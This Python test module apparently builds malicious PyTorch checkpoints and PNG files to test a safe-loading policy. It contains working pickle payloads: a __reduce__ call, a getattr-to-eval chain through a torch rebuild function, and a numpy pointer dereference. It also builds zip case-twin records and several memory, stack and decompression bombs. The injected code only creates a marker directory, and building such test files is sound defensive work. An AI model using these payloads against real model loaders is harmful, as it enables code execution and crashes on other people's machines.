# Copyright (c) samref contributors. All rights reserved.
"""Files that attack a loader, built by the tests of the loading policy
(no attack file is shipped).

Checkpoints whose pickle runs code create a marker directory when it runs,
so a test asserts that the marker does not exist after a refused load;
the others crash the process (a numpy pointer), exhaust its memory (bombs)
or its stack (nesting), so a test runs the loader in a subprocess and
asserts that it exits normally.
"""
import collections
import io
import os
import pickle
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any, Callable, Dict, Optional

import torch

SENTINEL = 'samref-test-payload-goes-here'


class ReduceCarrier:
    """Plain pickling attack: unpickling calls ``os.mkdir(path)``."""

    def __init__(self, path: str) -> None:
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path, )


def _string(text: str) -> bytes:
    data = text.encode()
    return b'X' + struct.pack('<I', len(data)) + data  # BINUNICODE


def getattr_eval_payload(marker: str) -> bytes:
    """Pickle opcodes that reach ``builtins.eval`` through ``getattr`` and
    run it through a tensor rebuild function torch allows by default.

    ``getattr(getattr, '__self__')`` is the ``builtins`` module,
    ``getattr(builtins, 'eval')`` is ``eval``, and
    ``torch._tensor._rebuild_from_type_v2(eval, torch.Tensor, (code, ), {})``
    calls it. The code creates ``marker`` and evaluates to a tensor, so the
    rest of the load goes on normally.
    """
    code = (f'(__import__("os").mkdir({str(marker)!r}), '
            '__import__("torch").zeros(1))[1]')
    getattr_ = b'cbuiltins\ngetattr\n'
    builtins_module = getattr_ + b'(' + getattr_ + _string('__self__') + b'tR'
    eval_function = getattr_ + b'(' + builtins_module + _string('eval') + b'tR'
    return (b'ctorch._tensor\n_rebuild_from_type_v2\n(' + eval_function +
            b'ctorch\nTensor\n(' + _string(code) + b't}tR')


def replace_in_pickle(path: Path,
                      old: bytes,
                      new: bytes,
                      count: Optional[int] = 1) -> None:
    """Replace bytes in the ``data.pkl`` of a ``torch.save`` zip file
    (``count`` times; any number when None)."""
    with zipfile.ZipFile(path) as archive:
        records = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        for info, data in records:
            if info.filename.endswith('/data.pkl'):
                assert count is None or data.count(old) == count, \
                    'payload slot not found'
                data = data.replace(old, new)
            archive.writestr(info, data)


def save_with_payload(path: Path, state_dict: dict, payload: bytes) -> Path:
    """A checkpoint with real weights and ``payload`` (pickle opcodes that
    push one object) as its ``meta['note']``."""
    torch.save(dict(state_dict=state_dict, meta=dict(note=SENTINEL)), path)
    replace_in_pickle(path, _string(SENTINEL), payload)
    return path


def _bytes(data: bytes) -> bytes:
    """Pickle protocol 2 opcodes that push ``data`` as bytes."""
    return (b'c_codecs\nencode\n(' + _string(data.decode('latin1')) +
            _string('latin1') + b'tR')


def numpy_pointer_payload(address: int, module: str) -> bytes:
    """Opcodes that make numpy read an object pointer from the file.

    ``numpy.dtype('O8')`` with its flags cleared through ``__setstate__``
    (``BUILD``) loses the flag that makes ``scalar`` return its argument,
    so ``scalar(dtype, data)`` takes the 8 bytes of ``data`` as the address
    of a Python object: with an address chosen by the file, the process
    crashes (or, address-space randomisation off, runs code).
    """
    object_dtype = (b'cnumpy\ndtype\n(' + _string('O8') + b'\x89\x88tR' +
                    b'(K\x03' + _string('|') +
                    b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb')
    return (b'c' + module.encode() + b'\nscalar\n(' + object_dtype +
            _bytes(struct.pack('<Q', address)) + b'tR')


def numpy_pointer_checkpoint(path: Path,
                             marker: Path,
                             state_dict: dict,
                             module: str = 'numpy._core.multiarray') -> Path:
    """Real weights, and a numpy scalar that dereferences 0x4141... ."""
    return save_with_payload(path, state_dict,
                             numpy_pointer_payload(0x4141414141414141, module))


def case_twin_checkpoint(path: Path, marker: Path, state_dict: dict) -> Path:
    """A harmless ``archive/data.pkl`` and a ``getattr`` payload in
    ``archive/DATA.pkl``: torch finds records regardless of case."""
    save_getattr_attack(
        dict(state_dict=state_dict, meta=dict(note=SENTINEL)), path, marker)
    with zipfile.ZipFile(path) as archive:
        records = [(info, archive.read(info)) for info in archive.infolist()]
    harmless = io.BytesIO()
    torch.save(dict(state_dict=state_dict), harmless)
    with zipfile.ZipFile(harmless) as archive:
        clean = archive.read(
            next(n for n in archive.namelist() if n.endswith('/data.pkl')))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        for info, data in records:
            if info.filename.endswith('/data.pkl'):
                archive.writestr(info.filename, clean)
                info.filename = info.filename[:-len('data.pkl')] + 'DATA.pkl'
            archive.writestr(info, data)
    return path


class _StorageRef:
    """Pickled as a reference to the storage record ``key``."""

    def __init__(self, key: str, numel: int) -> None:
        self.key, self.numel = key, numel


class _TensorRef:
    """Pickled as a float tensor over a :class:`_StorageRef`."""

    def __init__(self, key: str, numel: int) -> None:
        self.storage = _StorageRef(key, numel)

    def __reduce__(self):
        numel = self.storage.numel
        return (torch._utils._rebuild_tensor_v2, (self.storage, 0, (numel, ),
                                                  (1, ), False,
                                                  collections.OrderedDict()))


class _CheckpointPickler(pickle.Pickler):

    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, _StorageRef):
            return ('storage', torch.FloatStorage, obj.key, 'cpu', obj.numel)
        return None


def deflate_bomb_checkpoint(path: Path,
                            marker: Path,
                            state_dict: dict,
                            megabytes: int = 1024) -> Path:
    """A checkpoint whose one weight is a deflated record of ``megabytes``
    MB of zeros (about a thousandth of that on disk): torch inflates it
    whole before anything is checked."""
    numel = megabytes * 2**20 // 4
    data = io.BytesIO()
    _CheckpointPickler(
        data,
        protocol=2).dump(dict(state_dict={'weight': _TensorRef('0', numel)}))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as archive:
        archive.writestr('archive/data.pkl', data.getvalue())
        archive.writestr('archive/byteorder', 'little')
        info = zipfile.ZipInfo('archive/data/0')
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, 'w', force_zip64=True) as record:
            zeros = bytes(2**20)
            for _ in range(megabytes):
                record.write(zeros)
        archive.writestr('archive/version', '3\n')
    return path


def bytearray_bomb_checkpoint(path: Path,
                              marker: Path,
                              state_dict: dict,
                              size: int = 2**30) -> Path:
    """Real weights and ``bytearray(size)`` (torch's own weights-only
    allowlist has ``bytearray``): a 100-byte call fills ``size`` bytes."""
    payload = (b'cbuiltins\nbytearray\n(J' + struct.pack('<i', size) + b'tR')
    return save_with_payload(path, state_dict, payload)


def nesting_checkpoint(path: Path,
                       marker: Path,
                       state_dict: dict,
                       depth: int = 10**5) -> Path:
    """Real weights and a list nested ``depth`` deep: the unpickler builds
    it without recursion, code that walks it recursively overflows."""
    payload = b']' * depth + b'a' * (depth - 1)
    return save_with_payload(path, state_dict, payload)


def shared_list_checkpoint(path: Path,
                           marker: Path,
                           state_dict: dict,
                           levels: int = 64) -> Path:
    """Real weights and a tuple of ``levels`` lists, each holding the one
    before twice: 2**63 items to code that walks the last one without
    noticing the sharing."""
    payload = b'(]r' + struct.pack('<I', 0)
    for level in range(1, levels):
        get = b'j' + struct.pack('<I', level - 1)
        payload += b'](' + get + get + b'er' + struct.pack('<I', level)
    return save_with_payload(path, state_dict, payload + b't')


def published_name(path: Path) -> Path:
    """``path`` renamed as mmseg's ``publish_model`` names a checkpoint:
    ``<stem>-<first 8 hex digits of its SHA-256>.pth``."""
    import hashlib
    digest = hashlib.sha256(path.read_bytes()).hexdigest()[:8]
    return path.rename(path.with_name(f'{path.stem}-{digest}.pth'))


def altered_published_checkpoint(path: Path, marker: Path,
                                 state_dict: dict) -> Path:
    """A published checkpoint (hash in its name) with one bit of its tensor
    data flipped."""
    torch.save(dict(state_dict=state_dict), path)
    published = published_name(path)
    data = bytearray(published.read_bytes())
    with zipfile.ZipFile(published) as archive:
        record = next(info for info in archive.infolist()
                      if '/data/' in info.filename)
        # The record's data follows its local header (30 bytes, the name
        # and an extra field).
        header = data[record.header_offset:record.header_offset + 30]
        name_length, extra_length = struct.unpack('<HH', header[26:30])
        start = record.header_offset + 30 + name_length + extra_length
    data[start] ^= 1
    published.write_bytes(bytes(data))
    return published


def save_getattr_attack(obj: Any, path: Path, marker: Path) -> Path:
    """``torch.save(obj)`` with :data:`SENTINEL` in ``obj`` replaced by
    :func:`getattr_eval_payload` in the saved pickle."""
    torch.save(obj, path)
    replace_in_pickle(path, _string(SENTINEL),
                      getattr_eval_payload(str(marker)))
    return path


def getattr_attack_checkpoint(path: Path, marker: Path,
                              state_dict: dict) -> Path:
    """A checkpoint with real weights and the ``getattr`` payload in its
    meta."""
    return save_getattr_attack(
        dict(state_dict=state_dict, meta=dict(note=SENTINEL)), path, marker)


def reduce_attack_checkpoint(path: Path, marker: Path,
                             state_dict: dict) -> Path:
    """A checkpoint with real weights and a ``__reduce__`` payload."""
    torch.save(
        dict(state_dict=state_dict, meta=dict(note=ReduceCarrier(marker))),
        path)
    return path


# Attacks that run code if the loader lets them (a marker appears).
ATTACKS = dict(
    getattr=getattr_attack_checkpoint, reduce=reduce_attack_checkpoint)
# Attacks on the process itself: a crash, memory, the stack, or weights
# that are not the published ones. Each builder takes
# ``(path, marker, state_dict)`` and returns the file.
PROCESS_ATTACKS: Dict[str, Callable[..., Path]] = dict(
    numpy_pointer=numpy_pointer_checkpoint,
    case_twin=case_twin_checkpoint,
    deflate_bomb=deflate_bomb_checkpoint,
    bytearray_bomb=bytearray_bomb_checkpoint,
    nesting=nesting_checkpoint,
    shared_lists=shared_list_checkpoint,
    altered_published=altered_published_checkpoint)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with its CRC."""
    return (struct.pack('>I', len(data)) + kind + data +
            struct.pack('>I', zlib.crc32(kind + data)))


def png_pixel_bomb(path: Path,
                   width: int,
                   height: int,
                   complete: bool = True) -> Path:
    """A grey PNG declaring ``width x height`` pixels, all zero; its
    compressed data is a thousandth of the decoded size (with
    ``complete=False`` it is cut after the first rows)."""
    compressor = zlib.compressobj(9)
    row = bytes(width + 1)  # filter byte and pixels
    rows = height if complete else 16
    body = b''.join(compressor.compress(row) for _ in range(rows))
    body += compressor.flush()
    header = struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0)
    path.write_bytes(b'\x89PNG\r\n\x1a\n' + png_chunk(b'IHDR', header) +
                     png_chunk(b'IDAT', body) + png_chunk(b'IEND', b''))
    return path


def png_text_bomb(path: Path,
                  kind: bytes = b'zTXt',
                  megabytes: int = 64) -> Path:
    """A 4 x 4 PNG with a compressed text (``zTXt``) or ICC profile
    (``iCCP``) chunk that inflates to ``megabytes`` MB."""
    compressor = zlib.compressobj(9)
    text = b''.join(
        compressor.compress(bytes(2**20)) for _ in range(megabytes))
    text += compressor.flush()
    header = struct.pack('>IIBBBBB', 4, 4, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(4 * 5))
    path.write_bytes(b'\x89PNG\r\n\x1a\n' + png_chunk(b'IHDR', header) +
                     png_chunk(kind, b'bomb\x00\x00' + text) +
                     png_chunk(b'IDAT', pixels) + png_chunk(b'IEND', b''))
    return path


def getattr_attack_tensor(path: Path, marker: Path) -> Path:
    """A "tensor file" whose pickle is the ``getattr`` payload only."""
    return save_getattr_attack(SENTINEL, path, marker)


def reduce_attack_tensor(path: Path, marker: Path) -> Path:
    """A "tensor file" that holds a ``__reduce__`` payload."""
    torch.save(ReduceCarrier(marker), path)
    return path


def case_twin_tensor(path: Path, marker: Path) -> Path:
    """A tensor in ``archive/data.pkl`` and a ``getattr`` payload in
    ``archive/DATA.pkl``."""
    return case_twin_checkpoint(path, marker, {'weight': torch.ones(2)})


TENSOR_ATTACKS = dict(
    getattr=getattr_attack_tensor,
    reduce=reduce_attack_tensor,
    case_twin=case_twin_tensor)
